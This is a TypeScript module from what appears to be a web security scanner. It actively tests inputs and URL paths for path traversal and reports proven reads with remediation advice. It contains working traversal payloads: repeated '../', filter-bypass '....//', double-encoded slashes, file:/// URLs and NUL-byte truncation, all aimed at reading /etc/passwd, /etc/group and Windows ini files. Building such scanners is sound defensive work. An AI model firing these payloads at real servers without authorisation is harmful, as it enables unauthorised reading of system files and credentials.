/**
 * Path traversal and local file inclusion (CWE-22): an input the server uses as (part of) a file
 * path is set to paths that climb out of the intended directory, and a finding needs the content
 * of a well-known system file (not a status code, not a size) to appear in the response while the
 * baseline lacks it, then the same technique to read a second known file (the confirmation).
 *
 * Inputs named or valued like a file (`file`, `page`, `template`, `docs/about.txt`...) get every
 * technique; other inputs get the two cheapest, so that an unexpected file parameter is still found.
 */
import type { CheckContext, Endpoint, InputPoint, WebCheck, WebResponse, WebRule } from '../contract.js';
import { baselineRequest, requestFor } from '../inputs.js';
import { firstTime } from './once.js';
import { sendProbe, whileBudgetLasts } from './probe.js';
import { webRule } from './rule.js';

/** A file every system of a family has, its recognisable content, and a second one to confirm with. */
interface KnownFile {
  path: string;
  label: string;
  pattern: RegExp;
  confirm: { path: string; label: string; pattern: RegExp };
}

const UNIX: KnownFile = {
  path: 'etc/passwd',
  label: '/etc/passwd',
  pattern: /root:[^:\n<]*:0:0:/,
  confirm: { path: 'etc/group', label: '/etc/group', pattern: /(?<=^|[\n>])root:[^:\n<]*:0:/ },
};
const WINDOWS: KnownFile = {
  path: 'windows/win.ini',
  label: 'C:\\Windows\\win.ini',
  pattern: /; for 16-bit app support|\[fonts\]/i,
  confirm: { path: 'windows/system.ini', label: 'C:\\Windows\\system.ini', pattern: /\[drivers\]|\[386Enh\]/i },
};

const DEPTH = 10;

/** A way to turn a known file's path into a value; applied to the file, then to the confirmation file. */
interface Technique {
  name: string;
  value(file: string): string;
}

function techniquesFor(point: InputPoint, family: 'unix' | 'windows', thorough: boolean): Technique[] {
  const up = '../'.repeat(DEPTH);
  if (family === 'windows') {
    return [
      { name: 'relative path (backslashes)', value: (file) => `${'..\\'.repeat(DEPTH)}${file.replace(/\//g, '\\')}` },
      { name: 'absolute path', value: (file) => `C:\\${file.replace(/\//g, '\\')}` },
    ];
  }
  const list: Technique[] = [
    { name: 'relative path', value: (file) => `${up}${file}` },
    { name: 'absolute path', value: (file) => `/${file}` },
  ];
  if (!thorough) return list;
  const dir = /^(.*[/\\])[^/\\]*$/.exec(point.value)?.[1];
  if (dir) list.push({ name: 'relative path after the original directory', value: (file) => `${dir}${up}${file}` });
  list.push(
    { name: 'relative path through a one-pass "../" filter', value: (file) => `${'....//'.repeat(DEPTH)}${file}` },
    { name: 'relative path URL-encoded twice', value: (file) => `${'..%2f'.repeat(DEPTH)}${file.replace(/\//g, '%2f')}` },
    { name: 'file: URL', value: (file) => `file:///${file}` },
  );
  if (/\.\w{1,5}$/.test(point.value)) list.push({ name: 'relative path ending in a NUL byte (cuts an appended extension)', value: (file) => `${up}${file}\u0000` });
  return list;
}

const FILE_NAME = /file|page|path|doc|template|tpl|include|inc$|dir|folder|load|read|view|download|src|source|resource|lang|locale|layout|module|content|conf|log|style|theme|name/i;
const FILE_VALUE = /[/\\]|\.[a-z0-9]{1,5}$/i;

/** What reading a known file proved: both exchanges and the content each showed. */
interface FileRead {
  hit: WebResponse;
  shown: string;
  confirmation: WebResponse;
  confirmed: string;
}

/** Reads the known file, then its confirmation file, the same way; null unless both show their content. */
async function readKnownFile(known: KnownFile, send: (file: string) => Promise<WebResponse | null>): Promise<FileRead | null> {
  const hit = await send(known.path);
  const shown = hit && known.pattern.exec(hit.body);
  if (!hit || !shown) return null;
  const confirmation = await send(known.confirm.path);
  const confirmed = confirmation && known.confirm.pattern.exec(confirmation.body);
  if (!confirmation || !confirmed) return null;
  return { hit, shown: shown[0], confirmation, confirmed: confirmed[0] };
}

async function testInput(point: InputPoint, ctx: CheckContext): Promise<void> {
  await whileBudgetLasts(ctx, async () => {
    const baseline = await sendProbe(ctx, baselineRequest(point.endpoint));
    if (!baseline) return;
    const thorough = FILE_NAME.test(point.name) || FILE_VALUE.test(point.value);
    const families: Array<[KnownFile, 'unix' | 'windows']> = thorough ? [[UNIX, 'unix'], [WINDOWS, 'windows']] : [[UNIX, 'unix']];
    for (const [known, family] of families) {
      if (known.pattern.test(baseline.body) || known.confirm.pattern.test(baseline.body)) continue;
      for (const technique of techniquesFor(point, family, thorough)) {
        const send = (file: string): Promise<WebResponse | null> => sendProbe(ctx, requestFor(point.endpoint, { point, value: technique.value(file) }));
        const read = await readKnownFile(known, send);
        if (!read) continue;
        ctx.report({
          ruleId: 'rampart:web-path-traversal',
          url: point.endpoint.url,
          method: point.endpoint.method,
          parameter: point.name,
          location: point.location,
          proof: [read.hit, read.confirmation],
          name: 'Path traversal (arbitrary file read)',
          summary: `Setting "${point.name}" to ${JSON.stringify(technique.value(known.path))} (${technique.name}) returned the content of ${known.label} ("${read.shown}"), absent from the baseline; the same technique read ${known.confirm.label} too ("${read.confirmed}").`,
          highlight: read.shown,
        });
        return;
      }
    }
  });
}

/**
 * The same attack in the URL path, for links that name a file in a folder (`/docs/about.txt`): a
 * server that maps the path to its disk without normalising it, or decodes `%2f` after routing,
 * climbs out of the folder. `rawTarget` keeps the `../` the client would otherwise collapse.
 * Once per folder of the site.
 */
const PATH_TECHNIQUES: Technique[] = [
  { name: 'dot segments in the path', value: (file) => `${'../'.repeat(DEPTH)}${file}` },
  { name: 'encoded slashes in the path', value: (file) => `${'..%2f'.repeat(DEPTH)}${file.replace(/\//g, '%2f')}` },
  { name: 'encoded dots and slashes in the path', value: (file) => `${'%2e%2e%2f'.repeat(DEPTH)}${file.replace(/\//g, '%2f')}` },
];

async function testEndpoint(endpoint: Endpoint, ctx: CheckContext): Promise<void> {
  const url = new URL(endpoint.url);
  const folder = /^(\/(?:[^/]+\/)+)[^/]+\.[a-z0-9]{1,5}$/i.exec(url.pathname)?.[1];
  if (endpoint.method !== 'GET' || !folder || !firstTime(ctx, `traversal-path ${url.origin}${folder}`)) return;
  await whileBudgetLasts(ctx, async () => {
    const baseline = await sendProbe(ctx, { method: 'GET', url: url.href });
    if (!baseline || UNIX.pattern.test(baseline.body) || UNIX.confirm.pattern.test(baseline.body)) return;
    for (const technique of PATH_TECHNIQUES) {
      const send = async (file: string): Promise<WebResponse | null> => {
        const rawTarget = `${folder}${technique.value(file)}`;
        const response = await sendProbe(ctx, { method: 'GET', url: `${url.origin}${folder}` }, { rawTarget });
        // The proof shows the request line as sent, not the URL the client was given for scope and cookies.
        return response && { ...response, request: { ...response.request, url: `${url.origin}${rawTarget}` } };
      };
      const read = await readKnownFile(UNIX, send);
      if (!read) continue;
      ctx.report({
        ruleId: 'rampart:web-path-traversal',
        url: `${url.origin}${folder}`,
        method: 'GET',
        parameter: null,
        proof: [read.hit, read.confirmation],
        name: 'Path traversal in the URL path (arbitrary file read)',
        summary: `Requesting ${folder}${technique.value(UNIX.path)} (${technique.name}, beside ${url.pathname}) returned the content of ${UNIX.label} ("${read.shown}"), absent from the file's own page; the same path read ${UNIX.confirm.label} too ("${read.confirmed}").`,
        highlight: read.shown,
      });
      return;
    }
  });
}

export const CHECKS: WebCheck[] = [{ id: 'traversal', kind: 'active', testInput, testEndpoint }];

export const RULES: WebRule[] = [
  webRule({
    ruleId: 'rampart:web-path-traversal',
    name: 'Path traversal',
    description: "An input is used to build a file path on the server without keeping it inside the intended directory, so a request can read any file the server's process may read: configuration, source code, keys and credentials.",
    solution: 'Never build file paths from request input. Map the input to a fixed list of allowed files (an identifier, not a name); failing that, resolve the path and refuse it unless it stays inside the intended directory, and run the server with the least file access it needs.',
    cwe: 'CWE-22',
    references: ['https://owasp.org/www-community/attacks/Path_Traversal', 'https://cwe.mitre.org/data/definitions/22.html'],
    threat: 'High',
    cvssVector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
    reason: 'Proven read of system files outside the web root: any file the server process can read is exposed (confidentiality high); writing or code execution is not proven.',
  }),
];
